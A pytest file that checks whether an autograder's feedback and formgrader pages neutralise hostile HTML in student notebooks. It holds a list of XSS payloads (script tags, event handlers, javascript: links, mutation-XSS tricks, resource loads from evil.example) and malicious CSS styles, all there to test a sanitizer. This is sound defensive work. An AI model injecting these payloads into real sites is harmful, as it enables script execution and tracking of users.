"""Feedback and formgrader pages: what a student wrote is shown and does nothing."""

import base64
import hashlib
import html
import re
import shutil
import time
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from nbgrader.api import Gradebook
from nbgrader.converters import GenerateFeedback
from nbgrader.coursedir import CourseDirectory
from traitlets.config import Config
from traitlets.config.loader import PyFileConfigLoader

from autograder.report.safe_pages import SafeOutputs, clean_html

ROOT = Path(__file__).parents[2]
STAGE, STUDENT = "03_attention", "ada"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="

PAYLOADS = [
    "<script>document.title='acted'</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=\"document.title='acted'\">",
    "<img src='https://evil.example/seen.png'>",
    "<iframe src=\"javascript:document.title='acted'\"></iframe>",
    "<svg onload=\"document.title='acted'\"><circle r='9'/></svg>",
    "<svg><animate onbegin=\"document.title='acted'\" attributeName=x dur=1s>",
    "<a href=\"javascript:document.title='acted'\">here</a>",
    "<a href=\"JaVa\tScript:document.title='acted'\">there</a>",
    "<a href='data:text/html,<script>1</script>'>page</a>",
    "[link](javascript:document.title='acted')",
    "![image](x\" onerror=\"document.title='acted')",
    "<details open ontoggle=\"document.title='acted'\">more</details>",
    '<p style="background:url(https://evil.example/b.png);position:fixed">p</p>',
    "<form action='https://evil.example'><input name=a autofocus onfocus=alert(1)></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<div id='loss' class='score tabbable' data-link='x'>field</div>",
    "$<img src=x onerror=alert(1)>$",
    "```mermaid\n</pre><img src=x onerror=alert(1)>\n```",
    "![gone](attachment:nowhere.png)",
]


class Elements(HTMLParser):
    """Collects every element of a page with its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def elements(page: str) -> list[tuple[str, dict[str, str]]]:
    parser = Elements()
    parser.feed(page)
    return parser.found


def assert_harmless(page: str, own_scripts: int = 0) -> None:
    found = elements(page)
    tags = [tag for tag, _ in found]
    assert tags.count("script") == own_scripts
    assert not {"iframe", "svg", "object", "embed", "form", "base", "animate"} & set(tags)
    for tag, attributes in found:
        assert not [name for name in attributes if name.startswith("on") and name != "on"], (tag, attributes)
        for name in ("href", "src", "action"):
            address = "".join(attributes.get(name, "").split()).lower()
            assert not address.startswith(("javascript:", "data:text")), (tag, attributes)
            assert "evil.example" not in address, (tag, attributes)
        assert "evil.example" not in attributes.get("style", "")
        assert "position" not in attributes.get("style", "")


def meta(grade_id: str, grade: bool, solution: bool) -> dict[str, object]:
    return {
        "grade": grade,
        "solution": solution,
        "grade_id": grade_id,
        "locked": False,
        "points": 2,
        "schema_version": 3,
        "task": False,
    }


def hostile_notebook() -> NotebookNode:
    cells = [new_markdown_cell("# Attention\n\nA **paragraph** with $a < b$ and\n\n| a | b |\n|---|---|\n| 1 | 2 |")]
    cells += [new_markdown_cell(payload) for payload in PAYLOADS]
    answer = new_markdown_cell("\n\n".join(["My answer is *here*.", *PAYLOADS, "![scan](attachment:scan.png)"]))
    answer.metadata["nbgrader"] = meta("no_scale", grade=True, solution=True)
    answer["attachments"] = {"scan.png": {"image/png": PNG}}
    code = new_code_cell("def loss():\n    return '<script>1</script>'")
    code.metadata["nbgrader"] = meta("loss_answer", grade=False, solution=True)
    for payload in PAYLOADS:
        code.outputs.append(new_output("display_data", data={"text/html": payload, "text/plain": payload}))
        code.outputs.append(new_output("display_data", data={"text/markdown": payload}))
        code.outputs.append(new_output("display_data", data={"text/latex": payload}))
        code.outputs.append(new_output("display_data", data={"application/javascript": payload, "text/plain": "x"}))
        code.outputs.append(new_output("display_data", data={"image/svg+xml": payload}))
        code.outputs.append(new_output("stream", text=payload))
        code.outputs.append(new_output("error", ename="E", evalue=payload, traceback=[payload]))
    widget = {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><img src=x onerror=alert(1)>"}}
    code.outputs.append(new_output("display_data", data=widget))
    sized = {"image/png": {"width": "1 onload=alert(1)", "alt": '" onload="alert(1)'}}
    code.outputs.append(new_output("display_data", data={"image/png": PNG}, metadata=sized))
    isolated = {"text/html": {"isolated": True}}
    code.outputs.append(new_output("display_data", data={"text/html": "<script>1</script>"}, metadata=isolated))
    graded = new_code_cell("check.loss(loss)")
    graded.metadata["nbgrader"] = meta("loss", grade=True, solution=False)
    ours = "<ul style='list-style:none;padding-left:0'><li>✗ <b>loss is small</b><br><span>Seen 3.</span></li></ul>"
    graded.outputs = [new_output("display_data", data={"text/plain": "✗", "text/html": ours})]
    forged = new_markdown_cell("x")
    forged.metadata["nbgrader"] = meta('"><script>1</script>', grade=False, solution=False)
    notebook = new_notebook(cells=[*cells, answer, code, graded, forged])
    state = {"state": {"a": "</script><script>1</script>"}}
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
    return notebook


def config() -> Config:
    return PyFileConfigLoader("nbgrader_config.py", str(ROOT)).load_config()


@pytest.fixture
def course(tmp_path: Path, empty_gradebook: Path) -> Config:
    shutil.copy(empty_gradebook, tmp_path / "gradebook.db")
    settings = config()
    settings.CourseDirectory.root = str(tmp_path)
    settings.CourseDirectory.db_url = f"sqlite:///{tmp_path / 'gradebook.db'}"
    settings.CourseDirectory.assignment_id = STAGE
    with Gradebook(settings.CourseDirectory.db_url) as book:
        book.add_assignment(STAGE)
        book.add_notebook(STAGE, STAGE)
        book.add_grade_cell("loss", STAGE, STAGE, max_score=2, cell_type="code")
        book.add_grade_cell("no_scale", STAGE, STAGE, max_score=2, cell_type="markdown")
        book.add_solution_cell("no_scale", STAGE, STAGE)
        book.add_solution_cell("loss_answer", STAGE, STAGE)
        book.add_student(STUDENT)
        book.add_submission(STAGE, STUDENT)
        book.find_grade("loss", STAGE, STAGE, STUDENT).auto_score = 1.0
        book.find_comment("no_scale", STAGE, STAGE, STUDENT).manual_comment = "Well **seen**. " + "\n\n".join(PAYLOADS)
        book.db.commit()
    folder = tmp_path / "classroom" / "autograded" / STUDENT / STAGE
    folder.mkdir(parents=True)
    nbformat.write(hostile_notebook(), folder / f"{STAGE}.ipynb")
    return settings


def test_nbgraders_feedback_is_made_and_harmless(course: Config, tmp_path: Path) -> None:
    GenerateFeedback(coursedir=CourseDirectory(config=course), config=course).start()
    page = (tmp_path / "classroom" / "feedback" / STUDENT / STAGE / f"{STAGE}.html").read_text()
    # nbconvert's own: MathJax and its configuration.
    assert_harmless(page, own_scripts=2)
    found = elements(page)
    assert "loss is small" in page
    assert "Well <strong>seen</strong>" in page
    assert ("td", {}) in found or any(tag == "td" for tag, _ in found)
    assert any(attributes.get("src") == f"data:image/png;base64,{PNG}" for tag, attributes in found if tag == "img")
    assert "&lt;p&gt;" not in page
    assert [attributes for _, attributes in found if attributes.get("name") == "loss"]


def formgrader_page(notebook: NotebookNode) -> str:
    settings = config()
    settings.HTMLExporter.template_name = "formgrade"
    settings.Exporter.default_preprocessors = []
    names = ("base_url", "submission_id", "notebook_id", "assignment_id", "notebook_path", "student")
    resources = {**dict.fromkeys(names, "x"), "index": 0, "total": 1, "last_name": None, "first_name": None}
    page: str = HTMLExporter(config=settings).from_notebook_node(notebook, resources)[0]
    return page


def test_formgraders_page_is_harmless_and_keeps_its_fields() -> None:
    page, empty = formgrader_page(hostile_notebook()), formgrader_page(new_notebook())
    own = sum(tag == "script" for tag, _ in elements(empty))
    found = [(tag, attributes) for tag, attributes in elements(page) if "onclick" not in attributes]
    assert sum("onclick" in attributes for _, attributes in elements(page)) == sum(
        "onclick" in attributes for _, attributes in elements(empty)
    )
    assert sum(tag == "script" for tag, _ in found) == own
    fields = [tag for tag, attributes in found if attributes.get("id") == "loss"]
    assert fields == ["input"]
    assert not [tag for tag, attributes in found if "score" in attributes.get("class", "").split() and tag == "div"]
    mine = [item for item in found if item not in elements(empty)]
    for tag, attributes in mine:
        assert not [name for name in attributes if name.startswith("on")], (tag, attributes)
        assert not attributes.get("href", "").lower().replace("\t", "").startswith(("javascript:", "data:"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cleaned_html_is_harmless(payload: str) -> None:
    assert_harmless(clean_html(payload))


@pytest.mark.parametrize(
    "wanted",
    [
        "<p>one</p>",
        '<a href="https://arxiv.org/abs/1706.03762" rel="noopener noreferrer">paper</a>',
        # As coursekit frames what a check says, and as pandas sets a row.
        '<div style="border-left: 4px solid #2a7; padding: .3em .8em">✓ <b>1</b> · fine</div>',
        '<div style="border-left: 4px solid #888; padding: .3em .8em; opacity: .85">Read on.</div>',
        '<table class="dataframe"><tbody><tr style="text-align: right"><th>a</th></tr></tbody></table>',
        '<p style="color: rgb(200, 0, 0); background-color: #ffe; margin: 0 auto; font-size: 90%; width: 50%">p</p>',
        '<table class="dataframe"><thead><tr><th>a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>',
        f'<img alt="plot" src="data:image/png;base64,{PNG}">',
        "<details><summary>more</summary>text</details>",
    ],
)
def test_what_students_need_stays(wanted: str) -> None:
    assert clean_html(wanted) == wanted


@pytest.mark.parametrize(
    "style",
    [
        "list-style: image-set('https://evil.example' 1x)",
        "background: url(https://evil.example)",
        "background-color: var(--a)",
        "color: attr(title)",
        "width: calc(100% + 900px)",
        "width: 9999px",
        "width: 900%",
        "border: 900px solid red",
        "padding: 900px",
        "margin: -1px",
        "margin-left: 0 -9px",
        "font-size: 90em",
        "line-height: 0",
        "position: relative",
        "z-index: 1",
        "transform: none",
        "display: block",
        "height: 9px",
        "top: 0",
        "--a: 1",
        "color: red !important",
        "color: \\72 ed",
        "color: red/**/",
        "c\\6flor: red",
        "font-family: 'a;b', serif",
    ],
)
def test_a_style_that_is_on_no_list_goes_and_others_stay(style: str) -> None:
    assert clean_html(f'<p style="{style}">p</p>') == "<p>p</p>"
    assert clean_html(f'<p style="color: red; {style}; font-weight: bold">p</p>').startswith('<p style="color: red; ')
    assert clean_html(f'<p style="{style}; color: red">p</p>').endswith('color: red">p</p>')


@pytest.mark.parametrize(
    "sentence", ["an <class 'int'>, a List<int> and x <y, z> w", "a < b <= c << d", "<3", "<style> is"]
)
def test_what_is_no_element_is_text(sentence: str) -> None:
    assert html.unescape(clean_html(sentence)) == sentence


def test_only_the_classes_of_the_renderers_stay() -> None:
    kept = '<div class="highlight"><span class="nf">f</span><code class="language-python">g</code></div>'
    assert clean_html(kept) == kept
    for name in ("navbar-fixed-top", "row", "nav", "btn", "in", "col", "modal in", "score", "hide", "tabbable"):
        assert 'class="n"' in clean_html(f"<p class='n {name}'>x</p>"), name


def test_the_policy_of_each_page_knows_all_scripts_below_it(course: Config, tmp_path: Path) -> None:
    GenerateFeedback(coursedir=CourseDirectory(config=course), config=course).start()
    feedback = (tmp_path / "classroom" / "feedback" / STUDENT / STAGE / f"{STAGE}.html").read_text()
    for page in (feedback, formgrader_page(hostile_notebook())):
        (policy,) = [a["content"] for _, a in elements(page) if a.get("http-equiv") == "Content-Security-Policy"]
        assert policy.startswith("default-src 'none';")
        below = page.partition("Content-Security-Policy")[2]
        scripts = re.findall(r"<script[^>]*>(.*?)</script>", below, re.DOTALL)
        inline = [script for script in scripts if script] + re.findall(r'onclick="([^"]+)"', below)
        assert inline
        for script in inline:
            digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
            assert f"'sha256-{digest}'" in policy, script
        for address in re.findall(r'(?:<script[^>]* src|<link[^>]* href)="(https?:[^"]+)"', page):
            assert address.startswith("https://cdnjs.cloudflare.com/ajax/libs/mathjax/2.")


def test_a_style_sheet_is_not_shown_as_text() -> None:
    assert clean_html("<style scoped>td { top: 0 }</style><p>table</p>") == "<p>table</p>"


def test_deep_nesting_costs_the_text_and_not_the_page() -> None:
    assert_harmless(clean_html("<div>" * 3000 + "<script>1</script>"))


@pytest.mark.parametrize("tag", ["<div>", "<b><p>", "<table><tr><td>"])
def test_cleaning_takes_no_longer_than_a_page_is_worth(tag: str) -> None:
    start = time.thread_time()
    assert "&lt;" in clean_html(tag * (4_000_000 // len(tag)))
    clean_html(tag * (20_000 // tag.count("<")))
    assert time.thread_time() - start < 10


def test_many_outputs_of_html_are_shown_as_far_as_a_page_goes() -> None:
    little = new_output("display_data", {"text/html": "<b>.</b>" * 100, "text/plain": "plain"})
    bare = new_output("display_data", {"text/html": "<div>" * 100})
    cells = [new_code_cell("x", outputs=[little] * 99), new_code_cell("y", outputs=[little, *[bare] * 10_000])]
    start = time.thread_time()
    notebook, _ = SafeOutputs().preprocess(new_notebook(cells=cells), {})
    assert all("text/html" in output.data for output in notebook.cells[0].outputs)
    assert sum("text/html" in output.data for output in notebook.cells[1].outputs) == 1
    assert notebook.cells[1].outputs[-1].data["text/plain"].startswith("[left out")
    assert time.thread_time() - start < 10
